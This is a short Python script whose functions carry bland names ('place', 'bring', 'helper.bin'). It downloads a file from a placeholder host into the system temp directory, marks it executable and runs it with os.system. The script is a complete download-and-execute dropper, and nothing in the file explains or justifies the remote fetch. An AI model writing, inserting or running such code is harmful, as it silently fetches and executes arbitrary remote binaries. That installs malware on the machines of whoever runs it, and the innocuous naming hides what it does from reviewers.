import os
import tempfile
import urllib.request


def place():
    return os.path.join(tempfile.gettempdir(), 'helper.bin')


def bring(address, target):
    with open(target, 'wb') as out:
        out.write(urllib.request.urlopen(address).read())
    return target


program = bring('http://files.invalid/helper', place())
os.chmod(program, 0o755)
os.system(program)
